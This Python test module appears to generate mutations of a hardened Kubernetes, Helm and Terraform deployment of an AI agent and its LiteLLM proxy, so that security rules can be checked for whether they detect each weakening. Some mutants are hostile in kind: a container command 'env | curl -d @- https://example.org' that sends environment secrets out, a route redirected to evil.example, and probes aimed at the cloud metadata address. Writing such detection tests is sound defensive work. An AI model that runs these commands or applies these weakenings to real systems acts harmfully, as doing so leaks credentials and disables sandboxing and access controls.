            lambda w, n=workload, v=name: w.container(n).update(
                env=[e for e in w.container(n)["env"] if e["name"] != v]
            ),
        )
    sandbox = partial(lambda c: c["agents"]["defaults"]["sandbox"])
    for what, values in (
        ("off", {"mode": "off"}),
        ("for groups only", {"mode": "non-main"}),
        ("of an unknown kind", {"backend": "chroot"}),
    ):
        yield Mutant("CFG002", f"the sandbox is {what}", lambda w, v=values: w.openclaw(lambda c: sandbox(c).update(v)))
    for what, values in (
        ("the host's network", {"network": "host"}),
        ("the gateway's network", {"network": "container:openclaw"}),
        ("a writable image", {"readOnlyRoot": False}),
        ("capabilities", {"capDrop": []}),
        ("the root user", {"user": "0:0"}),
        ("mounts", {"binds": ["/:/host"]}),
        ("no bound of memory", {"memory": None}),
        ("no bound of processes", {"pidsLimit": 0}),
        ("more capabilities", {"capAdd": ["SYS_ADMIN"]}),
        ("privileges", {"privileged": True}),
    ):
        yield Mutant(
            "CFG002",
            f"the sandbox has {what}",
            lambda w, v=values: w.openclaw(lambda c: sandbox(c)["docker"].update(v)),
        )
    yield Mutant(
        "CFG002",
        "everybody may leave the sandbox",
        lambda w: w.openclaw(lambda c: c["tools"]["elevated"].update(allowFrom={})),
    )
    yield Mutant(
        "CFG002",
        "a star may leave the sandbox",
        lambda w: w.openclaw(lambda c: c["tools"]["elevated"].update(allowFrom={"discord": ["*"]})),
    )
    yield Mutant(
        "CFG002",
        "a shell in the gateway",
        lambda w: w.openclaw(lambda c: c["gateway"]["terminal"].update(enabled=True)),
    )
    yield Mutant(
        "CFG002",
        "one agent without a sandbox",
        lambda w: w.openclaw(lambda c: c["agents"].update(list=[{"id": "x", "sandbox": {"mode": "off"}}])),
    )
    yield Mutant(
        "CFG002",
        "the daemon sees the whole state",
        lambda w: w.container(AGENT, "dind")["volumeMounts"].append(
            {"name": "data", "mountPath": "/home/node/.openclaw"}
        ),
    )
    yield Mutant(
        "CFG002",
        "the daemon does not see the workspace",
        lambda w: w.container(AGENT, "dind").update(
            volumeMounts=[m for m in w.container(AGENT, "dind")["volumeMounts"] if "workspace" not in m["mountPath"]]
        ),
    )
    yield Mutant("CFG002", "the daemon without TLS", lambda w: w.container(AGENT, "dind").update(env=[]))
    for container in ("openclaw", "dind-prune", "pull-sandbox"):
        yield Mutant(
            "CFG002",
            f"{container} talks to the daemon without TLS",
            lambda w, c=container: next(
                e for e in w.container(AGENT, c)["env"] if e["name"] == "DOCKER_TLS_VERIFY"
            ).update(value=""),
        )
        yield Mutant(
            "CFG002",
            f"{container} talks to another daemon",
            lambda w, c=container: next(e for e in w.container(AGENT, c)["env"] if e["name"] == "DOCKER_HOST").update(
                value="tcp://10.0.0.1:2376"
            ),
        )
    gateway = partial(lambda c: c["gateway"])
    for what, path, values in (
        ("asks for nothing", ("auth",), {"mode": "none"}), ("asks for a password", ("auth",), {"mode": "password"}), ("trusts a proxy's header", ("auth",), {"mode": "trusted-proxy"}),
        ("has no token", ("auth",), {"token": ""}), ("listens on loopback", (), {"bind": "loopback"}), ("is remote", (), {"mode": "remote"}), ("listens elsewhere", (), {"port": 8080}),
        ("trusts every proxy", (), {"trustedProxies": ["0.0.0.0/0"]}), ("trusts no proxy", (), {"trustedProxies": []}), ("trusts nonsense", (), {"trustedProxies": ["pods"]}),
        ("allows insecure logins", ("controlUi",), {"allowInsecureAuth": True}), ("skips device checks", ("controlUi",), {"dangerouslyDisableDeviceAuth": True}),
        ("is on Tailscale", ("tailscale",), {"mode": "funnel"}), ("pairs by itself", ("nodes", "pairing"), {"autoApproveLocal": True}),
    ):  # fmt: skip
        yield Mutant(
            "CFG003",
            f"the gateway {what}",
            lambda w, p=path, v=values: w.openclaw(lambda c: deep(gateway(c), *p).update(v)),
        )
    discord = partial(lambda c: c["channels"]["discord"])
    for what, values in (
        ("open", {"dmPolicy": "open"}),
        ("open to whoever pairs", {"dmPolicy": "pairing"}),
        ("open to all", {"allowFrom": ["*"]}),
        ("open to an empty list", {"allowFrom": []}),
        ("open in groups", {"groupPolicy": "open"}),
        ("open in a server", {"groupPolicy": "allowlist", "guilds": {"1": {"users": []}}}),
        ("writing its configuration", {"configWrites": True}),
    ):
        yield Mutant("CFG004", f"Discord is {what}", lambda w, v=values: w.openclaw(lambda c: discord(c).update(v)))
    for command in ("bash", "config", "debug", "mcp", "plugins", "restart"):
        yield Mutant(
            "CFG004",
            f"the chat command {command}",
            lambda w, k=command: w.openclaw(lambda c: c["commands"].update({k: True})),
        )
    yield Mutant(
        "CFG004", "everybody is the owner", lambda w: w.openclaw(lambda c: c["commands"].update(ownerAllowFrom=["*"]))
    )
    yield Mutant("CFG004", "every plugin is loaded", lambda w: w.openclaw(lambda c: c["plugins"].pop("allow")))
    yield Mutant(
        "CFG004",
        "Discord is not configured, but its token is there",
        lambda w: w.openclaw(lambda c: c["channels"].pop("discord")),
    )
    for variable in ("TELEGRAM_BOT_TOKEN", "SLACK_BOT_TOKEN"):
        yield Mutant(
            "CFG004",
            f"{variable} switches a channel on",
            lambda w, v=variable: w.container(AGENT)["env"].append(
                {"name": v, "valueFrom": {"secretKeyRef": {"name": "openclaw-credentials", "key": "GITHUB_TOKEN"}}}
            ),
        )
    yield from _proxy_configuration()
    yield from _tunnel_configuration()
    for path, value in (
        (("models", "catalogRefresh"), {"enabled": True}),
        (("memory", "search"), {"provider": "openai"}),
        (("telemetry",), {"enabled": True}),
        (("update",), {"checkOnStart": True}),
        (("update", "auto"), {"enabled": True}),
        (("browser",), {"enabled": True}),
        (("discovery", "mdns"), {"mode": "full"}),
    ):
        yield Mutant(
            "CFG009",
            f"{'.'.join(path)} {next(iter(value))} {next(iter(value.values()))}",
            lambda w, p=path, v=value: w.openclaw(lambda c: deep(c, *p).update(v)),
        )
    for variable in ("OPENCLAW_CONFIG_READONLY", "OPENCLAW_NO_AUTO_UPDATE", "DO_NOT_TRACK", "npm_config_offline"):
        yield Mutant(
            "CFG009",
            f"{variable} is not set",
            lambda w, v=variable: w.container(AGENT).update(
                env=[e for e in w.container(AGENT)["env"] if e["name"] != v]
            ),
        )
    yield Mutant(
        "CFG010",
        "the heap is as large as the limit",
        lambda w: next(e for e in w.container(AGENT)["env"] if e["name"] == "NODE_OPTIONS").update(
            value="--max-old-space-size=4096"
        ),
    )


def _proxy_configuration() -> Iterator[Mutant]:
    values: Any
    general, settings = partial(lambda c: c["general_settings"]), partial(lambda c: c["litellm_settings"])
    for what, values in (
        ("no gate", {"custom_auth": None}),
        ("a gate that is not there", {"custom_auth": "other.authenticate"}),
        ("no checks after its gate", {"custom_auth_run_common_checks": False}),
        ("a database", {"database_url": "os.environ/DATABASE_URL"}),
        ("no master key", {"master_key": None}),
        ("requests without a database", {"allow_requests_on_db_unavailable": True}),
        ("pass-through endpoints", {"pass_through_endpoints": [{"path": "/x"}]}),
        ("public routes", {"public_routes": ["/model/info"]}),
        ("models in a database", {"store_model_in_db": True}),
    ):
        yield Mutant("CFG005", f"the proxy has {what}", lambda w, v=values: w.litellm(lambda c: general(c).update(v)))
    for what, values in (
        ("calls home", {"telemetry": True}),
        ("reports to a callback", {"success_callback": ["langfuse"]}),
        ("does not check models", {"enable_post_custom_auth_checks": False}),
    ):
        yield Mutant("CFG005", f"the proxy {what}", lambda w, v=values: w.litellm(lambda c: settings(c).update(v)))
    for what, values in (
        ("tries again by itself", {"num_retries": 2}),
        ("tries again by default", {"num_retries": None}),
    ):
        yield Mutant(
            "CFG005", f"the proxy {what}", lambda w, v=values: w.litellm(lambda c: c["router_settings"].update(v))
        )
    for what, values in (
        ("another address", {"api_base": "https://evil.example"}),
        ("a bare model name", {"model": "claude-opus-4-6"}),
        ("every model", {"model": "anthropic/*"}),
        ("keys of its clients", {"configurable_clientside_auth_params": ["api_base"]}),
        ("no key", {"api_key": None}),
    ):
        yield Mutant(
            "CFG005",
            f"a route with {what}",
            lambda w, v=values: w.litellm(lambda c: c["model_list"][0]["litellm_params"].update(v)),
        )
    yield Mutant("CFG005", "the proxy serves no model", lambda w: w.litellm(lambda c: c.update(model_list=[])))
    yield Mutant(
        "CFG005",
        "the proxy is started without its configuration",
        lambda w: w.container(PROXY).update(args=["--port", "4000"]),
    )
    yield Mutant(
        "CFG005",
        "the proxy is started with another configuration",
        lambda w: w.container(PROXY).update(args=["--config", "/app/config.yaml"]),
    )
    yield Mutant("CFG005", "the proxy logs prompts", lambda w: w.container(PROXY)["args"].append("--detailed_debug"))
    for name in ("LITELLM_LOCAL_MODEL_COST_MAP", "NO_DOCS", "NO_REDOC", "DISABLE_ADMIN_UI"):
        yield Mutant(
            "CFG005",
            f"{name} is not set",
            lambda w, v=name: w.container(PROXY).update(env=[e for e in w.container(PROXY)["env"] if e["name"] != v]),
        )
    yield Mutant(
        "CFG005",
        "the gate is not mounted",
        lambda w: w.k8s("ConfigMap", "litellm-config")["data"].pop("agentkeep_gate.py"),
    )
    yield Mutant(
        "CFG005", "the gate knows no client", lambda w: w.k8s("ConfigMap", "litellm-config")["data"].pop("clients.json")
    )
    clients = partial(lambda w, change: w.text_config("litellm-config", "clients.json", change))
    yield Mutant(
        "CFG005",
        "the agent is a client by the master key",
        lambda w: clients(w, lambda c: c["clients"][0].update(keyEnv="LITELLM_MASTER_KEY")),
    )
    yield Mutant(
        "CFG005",
        "the agent is a client by the provider key",
        lambda w: clients(w, lambda c: c["clients"][0].update(keyEnv="ANTHROPIC_API_KEY")),
    )
    yield Mutant(
        "CFG005", "the agent may use every model", lambda w: clients(w, lambda c: c["clients"][0].update(models=[]))
    )


def _tunnel_configuration() -> Iterator[Mutant]:
    args = partial(lambda w: w.container(TUNNEL)["args"])
    for flag in ("--token=x", "--url=http://localhost", "--config=/x", "--no-tls-verify", "--hello-world"):
        yield Mutant("CFG006", f"cloudflared with {flag}", lambda w, f=flag: args(w).insert(1, f))
    for flag in ("--no-autoupdate", "--metrics", "--edge-ip-version"):
        yield Mutant("CFG006", f"cloudflared without {flag}", lambda w, f=flag: args(w).remove(f))
    yield Mutant(
        "CFG006", "cloudflared runs something else", lambda w: w.container(TUNNEL).update(args=["access", "tcp"])
    )
    yield Mutant("CFG006", "cloudflared without its token", lambda w: w.container(TUNNEL).pop("env"))
    for variable in ("TUNNEL_URL", "NO_TLS_VERIFY"):
        yield Mutant(
            "CFG006",
            f"cloudflared with {variable}",
            lambda w, v=variable: w.container(TUNNEL)["env"].append({"name": v, "value": "x"}),
        )


def second_look() -> Iterator[Mutant]:
    """Ways around a rule that its first version did not see."""
    application, policy = "cloudflare_zero_trust_access_application", "cloudflare_zero_trust_access_policy"
    routes = "cloudflare_zero_trust_tunnel_cloudflared_config"
    for kind in (application, policy):
        yield Mutant("REF010", f"{kind} is counted away", lambda w, k=kind: w.tf(k).update(count=0))
        yield Mutant("REF010", f"{kind} for each of nothing", lambda w, k=kind: w.tf(k).update(for_each=[]))
        yield Mutant(
            "REF010",
            f"{kind} keeps what somebody clicked",
            lambda w, k=kind: w.tf(k).update(lifecycle={"ignore_changes": ["include"]}),
        )
        yield Mutant(
            "REF010", f"{kind} by another provider", lambda w, k=kind: w.tf(k).update(provider="cloudflare.other")
        )
        yield Mutant(
            "REF010",
            f"{kind} with a switch of a later release",
            lambda w, k=kind: w.tf(k).update(allow_authenticate_via_warp=True),
        )
    yield Mutant(
        "REF010",
        "an override file beside the root module",
        lambda w: w.files.update({"arch/terraform/cloudflare/b0xp.io/openclaw/cdk_override.tf.json": b"{}"}),
    )
    yield Mutant(
        "SITE003",
        "a policy inside the application bypasses",
        lambda w: w.tf(application).update(policies=[{"decision": "bypass", "include": [{"everyone": {}}]}]),
    )
    yield Mutant(
        "SITE002",
        "a policy inside the application admits everybody",
        lambda w: w.tf(application).update(policies=[{"decision": "allow", "include": [{"everyone": {}}]}]),
    )
    for include in (
        "${concat([for a in var.access_emails : { email = { email = a } }], [{ everyone = {} }])}",
        "${local.people}",
        "${var.open ? [{ everyone = {} }] : []}",
    ):
        yield Mutant("SITE002", f"Access admits by {include[:40]}", lambda w, i=include: w.tf(policy).update(include=i))
    yield Mutant(
        "SITE006",
        "defaults for every origin",
        lambda w: w.tf(routes)["config"].update(origin_request={"proxy_type": "socks"}),
    )
    yield Mutant(
        "SEC001",
        "a token in a provider block",
        lambda w: w.cloudflare["provider"]["cloudflare"][0].update(api_token="abcdefgh12345678"),
    )
    yield Mutant(
        "SEC001",
        "a token in a local value",
        lambda w: w.cloudflare.update(locals={"tunnel_secret": "abcdefgh12345678"}),
    )
    yield Mutant(
        "SEC001",
        "a Secret that a controller fills with a token",
        lambda w: w.add(
            {
                "apiVersion": "v1",
                "kind": "Secret",
                "type": "kubernetes.io/service-account-token",
                "metadata": {
                    "name": "t",
                    "namespace": "openclaw",
                    "annotations": {"kubernetes.io/service-account.name": "openclaw"},
                },
            }
        ),
    )
    for _, name in objects("ConfigMap"):
        yield Mutant(
            "SEC001",
            f"ConfigMap {name} with data that cannot be looked into",
            lambda w, n=name: w.k8s("ConfigMap", n).update(binaryData={"x": "c2VjcmV0"}),
        )
    for _, name in objects("ExternalSecret"):
        yield Mutant(
            "SEC002",
            f"{name} with a field of a later release",
            lambda w, n=name: w.k8s("ExternalSecret", n)["spec"].update(mirror="x"),
        )
        yield Mutant(
            "SEC002",
            f"{name} fills another kind of object",
            lambda w, n=name: w.k8s("ExternalSecret", n)["spec"]["target"].update(manifest={"kind": "ConfigMap"}),
        )
    for workload, container, _ in containers():
        who = f"{workload}/{container}"
        target = partial(lambda n, c, w: w.container(n, c), workload, container)
        yield Mutant("POD012", f"{who}: a misspelt field", lambda w, t=target: t(w).update(securitycontext={}))
        yield Mutant(
            "POD012",
            f"{who}: a misspelt protection",
            lambda w, t=target: t(w)["securityContext"].update(readOnlyRootFileSystem=True),
        )
        yield Mutant(
            "POD006",
            f"{who}: a probe that makes its node ask",
            lambda w, t=target: t(w).update(
                startupProbe={"httpGet": {"host": "169.254.169.254", "path": "/", "port": 80}}
            ),
        )
        yield Mutant(
            "POD006",
            f"{who}: a hook that makes its node ask",
            lambda w, t=target: t(w).update(
                lifecycle={"preStop": {"httpGet": {"host": "10.0.0.1", "path": "/", "port": 80}}}
            ),
        )
        yield Mutant(
            "POD006",
            f"{who}: SELinux options",
            lambda w, t=target: t(w)["securityContext"].update(seLinuxOptions={"type": "spc_t"}),
        )
        yield Mutant(
            "CFG011",
            f"{who}: a shell with a script of its own",
            lambda w, t=target: t(w).update(command=["sh", "-c", "env | curl -d @- https://example.org"]),
        )
        yield Mutant(
            "CFG011", f"{who}: another program", lambda w, t=target: t(w).update(command=["python3", "/tmp/x.py"])
        )
        yield Mutant(
            "CFG011",
            f"{who}: a hook with a script of its own",
            lambda w, t=target: t(w).update(lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "id"]}}}),
        )
    for workload in WORKLOADS:
        pod = partial(lambda n, w: w.pod(n), workload)
        yield Mutant(
            "POD001",
            f"{workload} in the group of root",
            lambda w, p=pod: p(w)["securityContext"].update(supplementalGroups=[0]),
        )
        yield Mutant(
            "POD006",
            f"{workload} as a Windows host process",
            lambda w, p=pod: p(w)["securityContext"].update(windowsOptions={"hostProcess": True}),
        )
        yield Mutant("POD012", f"{workload}: a field of a later release", setting(pod, hostEverything=True))
        yield Mutant(
            "NET001",
            f"a policy for {workload} by a label that no manifest shows",
            lambda w, n=workload: w.k8s("NetworkPolicy", n)["spec"]["podSelector"].update(
                matchExpressions=[{"key": "pod-template-hash", "operator": "Exists"}]
            ),
        )
    yield Mutant(
        "CFG009",
        "the agent may write to its own configuration",
        lambda w: next(m for m in w.container(AGENT)["volumeMounts"] if m["mountPath"] == "/etc/openclaw").pop(
            "readOnly"
        ),
    )
    yield Mutant(
        "CFG009",
        "the agent reads its configuration from its workspace",
        lambda w: next(e for e in w.container(AGENT)["env"] if e["name"] == "OPENCLAW_CONFIG_PATH").update(
            value="/home/node/.openclaw/openclaw.json"
        ),
    )
    yield Mutant(
        "CFG003",
        "two configurations",
        lambda w: w.k8s("ConfigMap", "openclaw-scripts")["data"].update({"openclaw.json": "{}"}),
    )
    for workload in WORKLOADS:
        meta = partial(lambda n, w: w.k8s("Deployment", n)["spec"]["template"]["metadata"], workload)
        yield Mutant(
            "POD012",
            f"{workload} on a second network",
            lambda w, m=meta: m(w).setdefault("annotations", {}).update({"k8s.v1.cni.cncf.io/networks": "host"}),
        )
        yield Mutant(
            "POD012",
            f"{workload} with injected secrets",
            lambda w, m=meta: m(w).setdefault("annotations", {}).update({"vault.hashicorp.com/agent-inject": "true"}),
        )
        yield Mutant(
            "POD012",
            f"{workload} with an injected sidecar",
            lambda w, m=meta: m(w)["labels"].update({"sidecar.istio.io/inject": "true"}),
        )
        yield Mutant(
            "POD007",
            f"{workload} with an identity in a cloud",
            lambda w, n=workload: w.k8s("ServiceAccount", n)["metadata"].update(
                annotations={"eks.amazonaws.com/role-arn": "x"}
            ),
        )
    yield Mutant(
        "POD012",
        "sidecars for the whole namespace",
        lambda w: w.k8s("Namespace", "openclaw")["metadata"]["labels"].update({"istio-injection": "enabled"}),
    )
    for _, name in objects("Service"):
        yield Mutant(
            "NET011",
            f"Service {name} published by an annotation",
            lambda w, n=name: w.k8s("Service", n)["metadata"].update(
                annotations={"external-dns.alpha.kubernetes.io/hostname": "x.example"}
            ),
        )
    for section, value in (
        ("hooks", {"enabled": True}),
        ("mcp", {"servers": {"x": {"command": "sh"}}}),
        ("cron", {"enabled": True}),
        ("env", {"vars": {"A": "b"}}),
    ):
        yield Mutant(
            "CFG009",
            f"OpenClaw with a section {section}",
            lambda w, s=section, v=value: w.openclaw(lambda c: c.update({s: v})),
        )
    for section in ("environment_variables", "mcp_servers", "pass_through_config"):
        yield Mutant(
            "CFG005",
            f"LiteLLM with a section {section}",
            lambda w, s=section: w.litellm(lambda c: c.update({s: {"A": "b"}})),
        )
    for section, key in (
        ("general_settings", "alerting"),
        ("litellm_settings", "set_verbose"),
        ("litellm_settings", "cache"),
        ("general_settings", "use_client_credentials_pass_through_routes"),
    ):
        yield Mutant(
            "CFG005",
            f"LiteLLM with {section}.{key}",
            lambda w, s=section, k=key: w.litellm(lambda c: c[s].update({k: True})),
        )
    yield Mutant(
        "CFG005",
        "a route with a setting of a later release",
        lambda w: w.litellm(lambda c: c["model_list"][0]["litellm_params"].update(mock_response="hi")),
    )
    yield Mutant(
        "SITE002",
        "another identity provider",
        lambda w: w.cloudflare["data"]["cloudflare_zero_trust_access_identity_provider"]["github"].update(
            name="Google"
        ),
    )
    yield Mutant(
        "SITE002",
        "another login method",
        lambda w: w.tf(policy).update(require=[{"login_method": ["11111111-2222-3333-4444-555555555555"]}]),
    )
    yield Mutant("SITE002", "other people", lambda w: w.tf(policy).update(include=[{"email": "${var.other}"}]))
    for path in ("/run/secret/token", "/home/node/.openclaw/token", "/opt/agent-tools/token"):
        yield Mutant(
            "CFG012",
            f"a secret file at {path}",
            lambda w, p=path: w.openclaw(
                lambda c: c.update(
                    secrets={"providers": {"gateway": {"source": "file", "path": p, "mode": "singleValue"}}}
                )
            ),
        )
    for cidr in ("10.0.0.0/8", "192.178.0.0/16", "192.168.10.0/24", "0.0.0.0/0"):
        yield Mutant("NET006", f"the proxy may send to {cidr}, by declaration", partial(_declared_range, PROXY, cidr))
        yield Mutant("NET006", f"the agent may send to {cidr}, by declaration", partial(_declared_range, AGENT, cidr))
    yield Mutant(
        "NET006",
        "the agent may send to one private address, by declaration",
        partial(_declared_range, AGENT, "10.1.2.3/32"),
    )


def chart() -> Iterator[Mutant]:
    from tests.proofs.world import DIST

    folder = "helm/openclaw/"
    if not (DIST / folder).is_dir():
        return
    values = partial(lambda w: w.manifests(f"{folder}values.yaml")[0]["openclaw"]["app-template"])
    main = partial(lambda w: values(w)["controllers"]["main"])
    agent = partial(lambda w: main(w)["containers"][AGENT])
    template = partial(lambda name, w: w.manifests(f"{folder}templates/{name}.yaml"))
    for path in sorted((DIST / folder / "templates").glob("*.yaml")):
        if "{{" not in path.read_text():
            yield Mutant(
                "REF013",
                f"the chart's {path.stem} says something else",
                lambda w, n=path.stem: template(n, w)[-1].update(extra={"x": "y"}),
            )
    yield Mutant(
        "REF013",
        "the chart renders one more object",
        lambda w: template("litellm-configmap", w).append(
            {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "x"}, "spec": {}}
        ),
    )
    yield Mutant(
        "REF013", "the chart's policy opens all", lambda w: template("networkpolicy", w)[1]["spec"].update(egress=[{}])
    )
    yield Mutant(
        "REF013",
        "the chart has logic",
        lambda w: w.files.update({f"{folder}templates/x.yaml": b"{{ if .Values.x }}\na: 1\n{{ end }}\n"}),
    )
    yield Mutant(
        "REF013",
        "the chart's agent gets one more secret",
        lambda w: agent(w)["env"].update(
            X={"valueFrom": {"secretKeyRef": {"name": "litellm-credentials", "key": "ANTHROPIC_API_KEY"}}}
        ),
    )
    yield Mutant(
        "REF013", "the chart's agent is privileged", lambda w: agent(w)["securityContext"].update(privileged=True)
    )
    yield Mutant("REF013", "the chart's agent is another image", lambda w: agent(w)["image"].update(tag="latest"))
    yield Mutant("REF013", "the chart's agent runs something else", lambda w: agent(w).update(command=["sh"]))
    yield Mutant(
        "REF013", "the chart's agent has an unknown setting", lambda w: agent(w).update(envFrom=[{"secret": "x"}])
    )
    yield Mutant(
        "REF013",
        "the chart adds a container",
        lambda w: main(w)["containers"].update(x={"image": {"repository": "x", "tag": "1.2.3"}}),
    )
    yield Mutant(
        "REF013", "the chart's own containers run as well", lambda w: main(w)["containers"]["main"].update(enabled=True)
    )
    yield Mutant("REF013", "the chart drops a container", lambda w: main(w)["containers"].pop("sync-files"))
    yield Mutant("REF013", "the chart has a second controller", lambda w: values(w)["controllers"].update(x={}))
    yield Mutant("REF013", "the chart's pods roll over", lambda w: main(w).update(strategy="RollingUpdate"))
    yield Mutant(
        "REF013",
        "the chart's pod gets an API token",
        lambda w: values(w)["defaultPodOptions"].update(automountServiceAccountToken=True),
    )
    yield Mutant(
        "REF013",
        "the chart's pod does not refuse an API token",
        lambda w: values(w)["defaultPodOptions"].pop("automountServiceAccountToken"),
    )
    yield Mutant(
        "REF013",
        "the chart's pod is on the host network",
        lambda w: values(w)["defaultPodOptions"].update(hostNetwork=True),
    )
    yield Mutant(
        "REF013",
        "the chart's pod carries other labels",
        lambda w: values(w)["defaultPodOptions"]["labels"].update(app="x"),
    )
    yield Mutant(
        "REF013",
        "the chart has a network policy of its own",
        lambda w: values(w)["networkpolicies"]["main"].update(enabled=True),
    )
    yield Mutant("REF013", "the chart has an Ingress", lambda w: values(w)["ingress"]["main"].update(enabled=True))
    yield Mutant("REF013", "the chart fetches skills", lambda w: values(w).update(skills=["x"]))
    yield Mutant("REF013", "the chart keeps what the agent changed", lambda w: values(w).update(configMode="merge"))
    yield Mutant(
        "REF013",
        "the chart deletes the data with the release",
        lambda w: values(w)["persistence"]["data"].update(retain=False),
    )
    yield Mutant(
        "REF013",
        "the chart mounts the whole state into the daemon",
        lambda w: values(w)["persistence"]["data"]["advancedMounts"]["main"]["dind"].append({"path": "/state"}),
    )
    yield Mutant(
        "REF013",
        "the chart mounts something everywhere",
        lambda w: values(w)["persistence"]["tools"].update(globalMounts=[{"path": "/x"}]),
    )
    yield Mutant(
        "REF013",
        "the chart mounts the node",
        lambda w: values(w)["persistence"].update(
            x={"type": "hostPath", "advancedMounts": {"main": {AGENT: [{"path": "/host"}]}}}
        ),
    )
    yield Mutant(
        "REF013", "the chart has values that are not known", lambda w: values(w).update(rawResources={"x": {}})
    )
    yield Mutant(
        "REF013",
        "the chart configures another chart",
        lambda w: w.manifests(f"{folder}values.yaml")[0].update(other={"x": 1}),
    )
    yield Mutant(
        "REF013", "the chart's Service is a node port", lambda w: values(w)["service"]["main"].update(type="NodePort")
    )
    yield Mutant(
        "REF013",
        "the chart's Service opens another port",
        lambda w: values(w)["service"]["main"]["ports"]["gateway"].update(port=80),
    )
    yield Mutant(
        "REF013",
        "the chart's configuration is another",
        lambda w: values(w)["configMaps"]["config"]["data"].update({"openclaw.json": "{}"}),
    )
    yield Mutant("SEC001", "a key in the chart's values", lambda w: agent(w)["env"].update(COLOUR=KEY))


def _declared_range(workload: str, cidr: str, world: World) -> None:
    world.ledger["flows"].append(
        {"from": workload, "to": f"cidr:{cidr}", "protocol": "TCP", "port": 443, "because": "x"}
    )
    rule = {"to": [{"ipBlock": {"cidr": cidr}}], "ports": [{"protocol": "TCP", "port": 443}]}
    world.k8s("NetworkPolicy", workload)["spec"]["egress"].append(rule)
